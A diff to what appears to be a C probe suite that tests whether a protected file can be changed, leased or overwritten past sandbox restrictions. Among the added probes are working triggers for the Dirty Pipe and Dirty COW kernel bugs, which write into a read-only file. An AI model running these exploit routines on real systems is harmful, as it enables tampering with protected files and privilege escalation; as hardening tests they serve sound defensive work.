@@ -7,10 +7,13 @@
 #include <fcntl.h>
 #include <linux/falloc.h>
 #include <linux/fs.h>
+#include <signal.h>
 #include <stdio.h>
+#include <string.h>
 #include <sys/ioctl.h>
 #include <sys/mman.h>
 #include <sys/stat.h>
+#include <sys/syscall.h>
 #include <sys/xattr.h>
 #include <unistd.h>
 
@@ -160,6 +163,102 @@ static int rename_its_directory(void)
     return verdict("rename", rename("../below", "../elsewhere"));
 }
 
+static int exchange(void)
+{
+    close(open("mine", O_WRONLY | O_CREAT, 0600));
+    return verdict("renameat2", renameat2(AT_FDCWD, "mine", AT_FDCWD, BLOB, RENAME_EXCHANGE));
+}
+
+static int change_mode_by_a_new_call(void)
+{
+    return verdict("fchmodat2", syscall(452, AT_FDCWD, BLOB, 0666, AT_SYMLINK_NOFOLLOW));
+}
+
+/* The link leads to what is below its own mount, whatever was mounted over it. */
+static int change_mode_through_procfs(void)
+{
+    return verdict("chmod", chmod("/proc/self/cwd/" BLOB, 0666));
+}
+
+static int clone_into(void)
+{
+    int mine = open("mine", O_RDWR | O_CREAT, 0600);
+    if (pwrite(mine, "evil", 4, 0) != 4)
+        return 3;
+    return verdict("FICLONE", ioctl(open_blob(O_WRONLY), FICLONE, mine));
+}
+
+static int splice_into(void)
+{
+    int ends[2];
+    if (pipe(ends) != 0 || write(ends[1], "evil", 4) != 4)
+        return 3;
+    return verdict("splice", splice(ends[0], NULL, open_blob(O_WRONLY), NULL, 4, 0));
+}
+
+/* An owner may take a lease, and whoever opens the file then waits until it is given back. */
+static int take_a_lease(int kind)
+{
+    signal(SIGIO, SIG_IGN);
+    return verdict("F_SETLEASE", fcntl(open(BLOB, O_RDONLY), F_SETLEASE, kind));
+}
+
+static int lease_for_writing(void)
+{
+    return take_a_lease(F_WRLCK);
+}
+
+static int lease_for_reading(void)
+{
+    return take_a_lease(F_RDLCK);
+}
+
+static int is_changed(char *first)
+{
+    char now[4] = "";
+    int file = open(BLOB, O_RDONLY);
+    return pread(file, now, sizeof now, 0) == sizeof now && memcmp(now, first, sizeof now) != 0;
+}
+
+/* CVE-2022-0847: a page of the file in a pipe that the next write is merged into. */
+static int dirty_pipe(void)
+{
+    char first[4] = "", rest[4096];
+    int ends[2], file = open(BLOB, O_RDONLY);
+    loff_t from = 0;
+    if (pread(file, first, sizeof first, 0) != sizeof first || pipe(ends) != 0)
+        return 3;
+    int size = fcntl(ends[1], F_GETPIPE_SZ);
+    memset(rest, 0, sizeof rest);
+    for (int filled = 0; filled < size; filled += (int)sizeof rest)
+        if (write(ends[1], rest, sizeof rest) < 0)
+            return 3;
+    for (int drained = 0; drained < size; drained += (int)sizeof rest)
+        if (read(ends[0], rest, sizeof rest) < 0)
+            return 3;
+    if (splice(file, &from, ends[1], NULL, 1, 0) != 1)
+        return verdict("splice", -1);
+    if (write(ends[1], "evil", 4) != 4)
+        return verdict("write", -1);
+    return verdict_if(is_changed(first), "the page in the pipe is the file's own");
+}
+
+/* CVE-2016-5195: /proc/self/mem writes where the mapping forbids it, into a copy that madvise throws away. */
+static int dirty_cow(void)
+{
+    char first[4] = "";
+    int file = open(BLOB, O_RDONLY), memory = open("/proc/self/mem", O_RDWR);
+    char *data = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
+    if (data == MAP_FAILED || pread(file, first, sizeof first, 0) != sizeof first)
+        return 3;
+    for (int round = 0; round < 1000; round++) {
+        if (pwrite(memory, "evil", 4, (off_t)data) != 4)
+            return verdict("write to /proc/self/mem", -1);
+        madvise(data, 4096, MADV_DONTNEED);
+    }
+    return verdict_if(is_changed(first), "what was written to a private mapping is in the file");
+}
+
 const struct probe STORE[] = {
     {"blob_chmod", change_mode},
     {"blob_fchmod", change_mode_by_descriptor},
@@ -184,5 +283,14 @@ const struct probe STORE[] = {
     {"blob_rename_away", rename_away},
     {"blob_unlink", remove_it},
     {"blob_rename_its_directory", rename_its_directory},
+    {"blob_exchange", exchange},
+    {"blob_fchmodat2", change_mode_by_a_new_call},
+    {"blob_chmod_through_procfs", change_mode_through_procfs},
+    {"blob_clone_into", clone_into},
+    {"blob_splice_into", splice_into},
+    {"blob_lease_for_writing", lease_for_writing},
+    {"blob_lease_for_reading", lease_for_reading},
+    {"cve_2022_0847_dirty_pipe", dirty_pipe},
+    {"cve_2016_5195_dirty_cow", dirty_cow},
     {NULL, NULL},
 };
